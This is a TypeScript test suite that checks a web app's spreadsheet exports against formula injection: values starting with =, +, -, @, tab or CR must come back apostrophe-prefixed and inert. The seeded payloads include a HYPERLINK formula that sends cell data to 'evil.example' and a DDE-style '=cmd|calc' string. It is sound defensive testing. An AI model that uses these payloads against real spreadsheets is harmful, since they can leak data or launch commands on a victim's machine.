import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { withTenant } from '../../db/scoped.ts';
import { neutralise } from '../../lib/xlsx.ts';
import { createTenant, createUser, loginAs, TEST_PASSWORD, type TestTenant } from '../factories.ts';
import { request, useTestApp } from '../harness.ts';

/**
 * Issue 8 item 8: spreadsheet (formula) injection. Records whose text starts with = + - @ tab or CR
 * are exported by every .xlsx export; reading each file back, no text cell may start with one of
 * those characters (the exporter prefixes an apostrophe), no cell is a formula, and ordinary text —
 * including text with those characters further in — comes back exactly as stored.
 */
const DANGEROUS = /^[=+\-@\t\r\0]/;
const PREFIXES = ['=', '+', '-', '@', '\t=', '\r+'];
/** What each prefix becomes in a stored value once the API has trimmed it (tab and CR are whitespace). */
const payload = (prefix: string, tag: string) => `${prefix}HYPERLINK("https://evil.example/?"&A1,"${tag}")`;
const ORDINARY = [
  'Plain text',
  'Müller & Söhne – “quoted” ‘text’ 🚀 עברית',
  'a=b, 1+1, x@y.example, 5-3',
  "'Already apostrophed",
  'Trailing = sign =',
];

type Cells = { strings: string[]; numbers: number[]; formulas: string[] };

async function readCells(buffer: Buffer): Promise<Cells> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const out: Cells = { strings: [], numbers: [], formulas: [] };
  for (const ws of workbook.worksheets) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) out.formulas.push(String(cell.address));
        const v = cell.value;
        if (typeof v === 'string') out.strings.push(v);
        else if (typeof v === 'number') out.numbers.push(v);
        else if (v && typeof v === 'object' && 'formula' in v) out.formulas.push(String(cell.address));
        else if (v && typeof v === 'object' && 'richText' in v)
          out.strings.push((v as ExcelJS.CellRichTextValue).richText.map((t) => t.text).join(''));
      }),
    );
  }
  return out;
}

describe('exports: spreadsheet formula injection', () => {
  const ctx = useTestApp(() => ({ runWorkers: false }));
  let tenant: TestTenant;
  let admin: string;
  let operator: string;
  /** Values stored (as the API answered them) that each export must show neutralised or unchanged. */
  const stored: Record<string, string[]> = {};
  const ownGlobal: { geos: number[] } = { geos: [] };

  const post = async (path: string, body: object, token = admin) => {
    const res = await request(ctx.port, 'POST', path, { host: tenant.host, token, body });
    if (res.status !== 201 && res.status !== 200) throw new Error(`${path}: ${res.status} ${res.text}`);
    return res.body;
  };
  const remember = (exportPath: string, ...values: (string | null | undefined)[]) => {
    stored[exportPath] = [...(stored[exportPath] ?? []), ...(values.filter((v) => typeof v === 'string') as string[])];
  };

  beforeAll(async () => {
    tenant = await createTenant(ctx.database);
    admin = await loginAs(ctx.port, tenant, await createUser(ctx.database, tenant, 'admin'));
    operator = await loginAs(ctx.port, tenant, await createUser(ctx.database, tenant, 'tenantAdmin'));
    const bucket = await post('/api/v1/raw-data/buckets/', { name: 'Target bucket' });
    const texts = [...PREFIXES.map((p, i) => payload(p, `t${i}`)), ...ORDINARY];
    for (const [i, v] of texts.entries()) {
      const kw = await post('/api/v1/keywords/', { name: v, description: v, visibility: 'public' });
      remember('/api/v1/keywords/', kw.name, kw.description);
      const term = await post('/api/v1/terminology/', { term: v, definition: v });
      remember('/api/v1/terminology/', term.term);
      const org = await post('/api/v1/assets/organizations/', {
        name_dba: v,
        name_inc: v,
        ownership_type: v,
        visibility: 'public',
      });
      remember('/api/v1/assets/organizations/', org.name_dba, org.name_inc, org.ownership_type);
      const person = await post('/api/v1/assets/people/', { name_given: v, name_family: 'X' });
      remember('/api/v1/assets/people/', person.name_given);
      const vehicle = await post('/api/v1/assets/ledger/', {
        organization_id: org.id,
        name: v,
        owner: v,
        vehicle_type: 'VC',
      });
      remember('/api/v1/assets/ledger/', vehicle.name, vehicle.owner);
      const entry = await post('/api/v1/assets/library/', { title: v, abstract: v, authors: [{ name: v }] });
      remember('/api/v1/assets/library/', entry.title);
      const snapshot = await post('/api/v1/assets/snapshots/', { year: 2000 + i, data: -1.5 - i, caption: v });
      remember('/api/v1/assets/snapshots/', snapshot.caption);
      const list = await post('/api/v1/lists/', { name: v, description: v, type: 'OrganizationsList' });
      remember('/api/v1/lists/', list.name);
      await post(`/api/v1/lists/${list.id}/items/`, { item_ids: [org.id] });
      remember(`/api/v1/lists/${list.id}/items/`, org.name_dba);
      const category = await post('/api/v1/categories/', { name: v });
      remember('/api/v1/categories/', category.name);
      const section = await post('/api/v1/sections/', { category_id: category.id, name: v });
      remember('/api/v1/sections/', section.name, section.category_name);
      const fact = await post('/api/v1/facts/', { section_id: section.id, text: v });
      remember('/api/v1/facts/', fact.text, fact.section_name);
      const share = await post('/api/v1/share-codes/', { category_id: category.id });
      remember('/api/v1/share-codes/', share.target_name);
      const b = await post('/api/v1/raw-data/buckets/', { name: v });
      remember('/api/v1/raw-data/buckets/', b.name);
      const raw = await post('/api/v1/raw-data/', { title: v, text: `Body ${i}`, buckets: String(b.id) });
      remember('/api/v1/raw-data/', raw.title, b.name);
      remember('/api/v1/raw-data/export/', raw.title, b.name);
      const url = await post('/api/v1/urls/', { url: `https://news.example/${i}`, alias: v });
      remember('/api/v1/urls/', url.alias);
      const rule = await post('/api/v1/taggingrules/', {
        name: v,
        match_text: v,
        algorithm: 'literal',
        target_bucket_id: bucket.id,
      });
      remember('/api/v1/taggingrules/', rule.name, rule.match_text);
      const user = await post('/api/v1/users/', { email: `u${i}@example.com`, password: TEST_PASSWORD, alias: v });
      remember('/api/v1/users/', user.alias);
      await post('/api/v1/dxlist/bulk_create/parse_text/', { raw_text: `person${i}@mail${i}.example.com` });
      const geo = await post('/api/v1/geos/', { name: `${v} ${tenant.subdomain}`, kind: 'region' }, operator);
      ownGlobal.geos.push(geo.id);
      remember('/api/v1/geos/', geo.name);
    }
    // Email addresses and their domains: a name and a source on each address, an organization on each domain.
    const emails = await request(ctx.port, 'GET', '/api/v1/dxlist/?limit=100', { host: tenant.host, token: admin });
    const domains = await request(ctx.port, 'GET', '/api/v1/dxlist/domains/?limit=100', {
      host: tenant.host,
      token: admin,
    });
    const orgs = await request(ctx.port, 'GET', '/api/v1/assets/organizations/?limit=100', {
      host: tenant.host,
      token: admin,
    });
    for (const [i, e] of (emails.body.results as { id: number }[]).entries()) {
      const v = texts[i % texts.length] as string;
      const res = await request(ctx.port, 'PATCH', `/api/v1/dxlist/${e.id}/`, {
        host: tenant.host,
        token: admin,
        body: { name: v, source: v },
      });
      expect(res.status).toBe(200);
      remember('/api/v1/dxlist/', res.body.name, res.body.source);
    }
    for (const [i, d] of (domains.body.results as { id: number }[]).entries()) {
      const org = (orgs.body.results as { id: number; name_dba: string }[])[i % orgs.body.results.length];
      const res = await request(ctx.port, 'PATCH', `/api/v1/dxlist/domains/${d.id}/`, {
        host: tenant.host,
        token: admin,
        body: { organization_id: org?.id },
      });
      expect(res.status).toBe(200);
      remember('/api/v1/dxlist/domains/', org?.name_dba);
    }
    // Values that did not pass through the API's trimming (an import, a processing job, an older version):
    // suggested entities, and a keyword and a tenant whose names start with a bare tab or CR.
    await withTenant(ctx.database, tenant.id, async (tx) => {
      for (const [i, v] of ['\t=1+1', '\r@SUM(A1)', '=2+2', '-3+3'].entries()) {
        for (const kind of ['organization', 'person'] as const)
          await tx.execute(
            sql`insert into suggested_entities (tenant_id, kind, name, normalized_name) values (${tenant.id}, ${kind}, ${v}, ${`n${i}`})`,
          );
        remember('/api/v1/suggested-entities/organizations/', v);
        remember('/api/v1/suggested-entities/people/', v);
      }
      await tx.execute(
        sql`insert into keywords (tenant_id, name, slug, visibility) values (${tenant.id}, ${'\t+cmd'}, 'raw-tab', 'public'), (${tenant.id}, ${'\r-cmd'}, 'raw-cr', 'public')`,
      );
    });
    remember('/api/v1/keywords/', '\t+cmd', '\r-cmd');
    await ctx.database.db.execute(sql`update clients set name = ${'\t=cmd|calc'} where id = ${tenant.id}`);
    remember('/api/v1/clients/', '\t=cmd|calc');
  });

  it('a NUL character is refused at the door (it can never reach a cell): 400, not stored', async () => {
    for (const [path, body] of [
      ['/api/v1/keywords/', { name: '\u0000=1+1' }],
      ['/api/v1/assets/organizations/', { name_dba: 'x\u0000y' }],
      ['/api/v1/raw-data/', { title: '\u0000@x', text: 'body' }],
    ] as const) {
      const res = await request(ctx.port, 'POST', path, { host: tenant.host, token: admin, body });
      expect(res.status, path).toBe(400);
    }
  });

  it('neutralise prefixes every dangerous start with an apostrophe and leaves everything else alone', () => {
    for (const c of ['=', '+', '-', '@', '\t', '\r', '\0']) expect(neutralise(`${c}x`)).toBe(`'${c}x`);
    for (const s of ORDINARY) expect(neutralise(s)).toBe(s);
    expect(neutralise(-1.5)).toBe(-1.5);
    expect(neutralise(['=a', 'b'])).toBe("'=a, b");
    expect(neutralise({ f: '=x' })).toBe('{"f":"=x"}');
  });

  it('every .xlsx export: no text cell starts with = + - @ tab CR or NUL, no formula, stored text comes back (neutralised or unchanged)', async () => {
    const doc = ctx.app.swagger() as unknown as {
      paths: Record<
        string,
        Record<string, { parameters?: { in: string; name: string; schema?: { enum?: string[] } }[] }>
      >;
    };
    const exports: string[] = [];
    for (const [template, ops] of Object.entries(doc.paths)) {
      const params = ops.get?.parameters ?? [];
      const format = params.find((p) => p.in === 'query' && p.name === 'format');
      if (format?.schema?.enum?.includes('xlsx') || template.endsWith('/export/')) exports.push(template);
    }
    // Exports with a path parameter: the list-items export of the lists made above.
    const listIds = Object.keys(stored)
      .map((k) => /^\/api\/v1\/lists\/(\d+)\/items\/$/.exec(k)?.[1])
      .filter(Boolean);
    const targets = exports.flatMap((t) =>
      t.includes('{id}') ? listIds.map((id) => t.replace('{id}', String(id))) : [t],
    );
    const report: string[] = [];
    const problems: string[] = [];
    for (const path of targets) {
      const url = `${path}${path.endsWith('/export/') ? '?limit=100' : '?format=xlsx&limit=100'}`;
      const res = await request(ctx.port, 'GET', url, { host: tenant.host, token: operator });
      if (res.status !== 200 || !String(res.headers['content-type']).includes('spreadsheet')) {
        problems.push(`${url}: ${res.status} ${String(res.headers['content-type'])}`);
        continue;
      }
      const cells = await readCells(res.buffer);
      const bad = cells.strings.filter((s) => DANGEROUS.test(s));
      if (bad.length) problems.push(`${url}: unneutralised cells ${JSON.stringify(bad.slice(0, 3))}`);
      if (cells.formulas.length) problems.push(`${url}: formula cells ${cells.formulas.slice(0, 3).join(',')}`);
      const expected = stored[path] ?? [];
      for (const value of expected) {
        // XML turns a stored CR into LF when the file is read back; the apostrophe in front is what counts.
        const want = (DANGEROUS.test(value) ? `'${value}` : value).replace(/\r\n?/g, '\n');
        if (!cells.strings.includes(want)) problems.push(`${url}: missing ${JSON.stringify(want)}`);
      }
      report.push(`${path} (${cells.strings.length} text cells, ${expected.length} checked values)`);
    }
    expect(problems).toEqual([]);
    // Every export was reached, and each carried the dangerous values made for it.
    expect(targets.length).toBeGreaterThanOrEqual(26);
    for (const path of Object.keys(stored)) expect(targets, path).toContain(path);
    // Negative numbers stay numbers (a number is not a formula).
    const snapshots = await request(ctx.port, 'GET', '/api/v1/assets/snapshots/?format=xlsx', {
      host: tenant.host,
      token: admin,
    });
    expect((await readCells(snapshots.buffer)).numbers).toEqual(expect.arrayContaining([-1.5, -2.5]));
    console.log(`exports checked: ${report.length}\n  ${report.join('\n  ')}`);
  });

  it('cleans up the countries it made', async () => {
    for (const id of ownGlobal.geos) {
      const res = await request(ctx.port, 'DELETE', `/api/v1/geos/${id}/`, { host: tenant.host, token: operator });
      expect(res.status).toBe(204);
    }
  });
});
